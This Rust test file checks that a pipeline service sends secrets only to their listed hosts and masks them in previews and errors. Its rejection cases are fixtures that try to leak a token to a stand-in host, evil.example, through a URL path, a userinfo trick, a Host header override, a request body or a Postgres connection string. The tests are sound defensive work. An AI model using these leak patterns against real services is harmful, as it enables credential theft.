//! Secrets are sent only to their hosts.

use hob_web::Service as _;
use std::path::Path;
use std::sync::{Arc, Mutex};

use hob_database::PageRequest;
use hob_pipeline::plan::Plan;
use hob_pipeline::run::RunState;
use hob_pipeline::{Config, Error, ItemState, Pipelines};
use hob_service::Live;
use hob_service::config::{Hosts, SecretDenied, SecretEntry, Secrets, SecretsConfig};
use hob_testkit::run;
use tempfile::TempDir;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::runs::{start_run, wait_for_state};
use crate::support::TestEnv;

const VALUE: &str = "s3cret-value";

/// A secret in a file, for pipelines and these hosts.
pub(crate) fn secret(name: &str, file: &Path, hosts: &[&str]) -> SecretsConfig {
    let hosts = Hosts::Listed(hosts.iter().map(|host| host.parse().unwrap()).collect());
    let from = format!("file:{}", file.display()).parse().unwrap();
    let entry = SecretEntry { from, services: vec!["pipeline".to_owned()], hosts };
    SecretsConfig::from_iter([(name.parse().unwrap(), entry)])
}

fn token(folder: &TempDir, value: &str, hosts: &[&str]) -> SecretsConfig {
    let file = folder.path().join("token");
    std::fs::write(&file, value).unwrap();
    secret("t", &file, hosts)
}

async fn open(
    env: &TestEnv,
    folder: &TempDir,
    secrets: Live<SecretsConfig>,
) -> (hob_service::ServiceContext, Pipelines) {
    let mut context = env.context(env.test_store().store().clone());
    context.secrets = Secrets::new(secrets);
    let config = Config { folder: folder.path().to_owned(), ..Config::default() };
    let pipelines = Pipelines::open(&context, Live::fixed(config)).await.unwrap();
    pipelines.start(&hob_web::Changes::detached(&context));
    (context, pipelines)
}

fn plan(keys: &str, step: &str) -> String {
    format!(
        "name = 'x'\nquota = {{ name = 'api', windows = '1000/1m' }}\nsource = {{ step = 's', list = {keys} }}\n\
         [step.s]\n{step}\n[retry]\nparse = {{ attempts = 1 }}\nclient = {{ attempts = 1 }}\n"
    )
}

#[test]
fn run_without_its_secret_is_not_started() {
    run(async {
        let (env, folder) = (TestEnv::embedded().await, TempDir::new().unwrap());
        let (_context, pipelines) =
            open(&env, &folder, Live::fixed(token(&folder, VALUE, &["api.example"]))).await;
        let text = plan("['1']", "get = 'https://api.example/'\nheaders = { A = '${secret.t}' }");
        let name = pipelines.put_plan(&text).await.unwrap().name;
        std::fs::remove_file(folder.path().join("token")).unwrap();
        match pipelines.start_run(&name, None).await {
            Err(Error::Secret { field, refused: SecretDenied::Unreadable(_) }) => {
                assert_eq!(field, "step.s.headers.A");
            }
            other => panic!("{other:?}"),
        }
        assert!(pipelines.runs(&PageRequest::first(1)).await.unwrap().rows.is_empty());
    });
}

#[test]
fn dry_run_hides_the_values_of_secrets() {
    run(async {
        let (env, folder) = (TestEnv::embedded().await, TempDir::new().unwrap());
        let (_context, pipelines) =
            open(&env, &folder, Live::fixed(token(&folder, VALUE, &["api.example"]))).await;
        let step = "post = 'https://api.example/${key}?t=${secret.t}'\nheaders = { A = 'Token ${secret.t}' }\n\
                    body = '{\"k\": \"${key}\"}'";
        let text = plan("['1', '2', '3', '4']", step);
        let items = pipelines.preview(&Plan::parse(&text).unwrap()).await.unwrap();
        assert_eq!(items.iter().map(|item| item.key.as_str()).collect::<Vec<_>>(), ["1", "2", "3"]);
        let request = items[0].request.as_ref().unwrap();
        assert_eq!(
            (request.method.as_str(), request.url.as_str()),
            ("POST", "https://api.example/1?t=SECRET")
        );
        assert_eq!(request.headers["A"], "Token SECRET");
        assert_eq!(request.body.as_deref(), Some(r#"{"k": "1"}"#));
        assert!(!format!("{items:?}").contains(VALUE));
        // As when it is saved: the secret is not for this host.
        let elsewhere = Plan::parse(&text.replace("api.example", "other.example")).unwrap();
        assert!(matches!(pipelines.preview(&elsewhere).await, Err(Error::Secret { .. })));
    });
}

#[test]
fn plan_that_may_not_use_its_secrets_is_rejected() {
    run(async {
        let (env, folder) = (TestEnv::embedded().await, TempDir::new().unwrap());
        let (live, replace) = Live::new(token(&folder, VALUE, &["*.api.example", "db.example"]));
        let (_context, pipelines) = open(&env, &folder, live).await;
        let header = "headers = { Authorization = 'Token ${secret.t}' }";
        let sink =
            "extract = { id = '$.id' }\nsink = 'out'\n[sink.out]\ntable = 'a'\nkey = ['id']\npostgres = 't'";
        let put = async |step: &str| pipelines.put_plan(&plan("['1']", step)).await.map(drop);
        for step in [
            format!("get = 'https://eu.api.example/${{key}}'\n{header}"),
            format!("get = 'https://${{key}}.api.example/'\n{header}"),
            "get = 'https://eu.api.example/${secret.t}'".to_owned(),
            "post = 'https://eu.api.example/'\nbody = '${secret.t}'".to_owned(),
            "get = 'https://eu.api.example/'\nheaders = { Host = 'us.api.example', A = '${secret.t}' }"
                .to_owned(),
        ] {
            put(&step).await.unwrap_or_else(|error| panic!("{step}: {error}"));
        }
        for (step, field, expected) in [
            (
                format!("get = 'https://evil.example/'\n{header}"),
                "headers.Authorization",
                "sent to evil.example:443",
            ),
            (
                format!("get = 'https://a.api.example@evil.example/'\n{header}"),
                "headers.Authorization",
                "evil.example",
            ),
            ("get = 'https://evil.example/${secret.t}'".to_owned(), "get", "sent to evil.example:443"),
            (
                "post = 'https://evil.example/'\nbody = '${secret.t}'".to_owned(),
                "body",
                "sent to evil.example:443",
            ),
            ("get = 'https://${secret.t}.api.example/'".to_owned(), "get", "part of a URL's host"),
            (
                "get = 'https://a.api.example/'\nheaders = { hOst = 'evil.example', A = '${secret.t}' }"
                    .to_owned(),
                "headers.A",
                "sent to evil.example:443",
            ),
            ("get = 'https://a.api.example/${secret.other}'".to_owned(), "get", "there is no secret other"),
        ] {
            match put(&step).await {
                Err(Error::Secret { field: found, refused }) => {
                    assert_eq!(found, format!("step.s.{field}"), "{step}");
                    assert!(refused.to_string().contains(expected), "{step}: {refused}");
                }
                other => panic!("{step}: {other:?}"),
            }
        }
        let refused = async || match put(sink).await {
            Err(Error::Secret { field, refused }) if field == "sink.out.postgres" => refused,
            other => panic!("{other:?}"),
        };
        let name = || "t".parse().unwrap();
        assert_eq!(refused().await, SecretDenied::NotAnAddress(name()));
        for (value, hosts, expected) in [
            ("postgres://u:p@evil.example/db", "db.example", SecretDenied::OwnHost(name())),
            ("postgres://u:p@db.example/db?host=evil.example", "db.example", SecretDenied::OwnHost(name())),
            ("postgres://u:p@db.example:5433/db", "db.example:5432", SecretDenied::OwnHost(name())),
            ("https://db.example/?token=x", "db.example", SecretDenied::NotAnAddress(name())),
        ] {
            replace.replace(token(&folder, value, &[hosts]));
            assert_eq!(refused().await, expected, "{value}");
        }
        replace.replace(token(&folder, "postgres://u:p@DB.example/db", &["db.example:5432"]));
        put(sink).await.unwrap();
    });
}

/// Starts a server that records every request and echoes it in the response.
async fn echo() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let requests: Arc<Mutex<Vec<String>>> = Arc::default();
    let recorded = Arc::clone(&requests);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") && stream.read_buf(&mut head).await.unwrap_or(0) > 0 {}
            let head = String::from_utf8(head).unwrap();
            let response = format!(
                "HTTP/1.1 400 Bad\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{head}",
                head.len()
            );
            recorded.lock().unwrap().push(head);
            let _ = stream.write_all(response.as_bytes()).await;
        }
    });
    (port, requests)
}

#[test]
fn secret_is_sent_only_to_its_hosts_and_masked_in_errors() {
    run(async {
        let (env, folder) = (TestEnv::embedded().await, TempDir::new().unwrap());
        let (live, replace) = Live::new(token(&folder, VALUE, &["localhost"]));
        let (_context, pipelines) = open(&env, &folder, live).await;
        let (port, requests) = echo().await;
        let step = format!(
            "get = 'http://${{key}}:{port}/${{secret.t}}'\nheaders = {{ A = 'Token ${{secret.t}}' }}"
        );
        // The host comes from the item, so the check happens per request.
        let text = plan("['localhost', '127.0.0.1']", &step);
        let errors = async || {
            let started = start_run(&pipelines, &text).await;
            wait_for_state(&pipelines, &started, RunState::Completed).await;
            let page = PageRequest::first(10);
            let items =
                pipelines.items(&started.id, Some(ItemState::Quarantined), None, &page).await.unwrap();
            let mut errors: Vec<(String, String)> =
                items.rows.into_iter().map(|item| (item.key, item.error)).collect();
            errors.sort();
            errors
        };
        let found = errors().await;
        assert!(
            found[0].1.contains(&format!("the secret t may not be sent to 127.0.0.1:{port}")),
            "{found:?}"
        );
        assert!(
            found[1].1.contains("400 Bad Request: GET /… HTTP/1.1") && found[1].1.contains("Token …"),
            "{found:?}"
        );
        {
            let requests = requests.lock().unwrap();
            assert_eq!(requests.len(), 1, "{requests:?}");
            assert!(requests[0].contains(VALUE) && requests[0].contains("host: localhost"), "{requests:?}");
        }
        replace.replace(token(&folder, VALUE, &["other.example"]));
        let found = errors().await;
        assert!(found.iter().all(|(_, error)| error.contains("may not be sent to")), "{found:?}");
        assert_eq!(requests.lock().unwrap().len(), 1);
    });
}
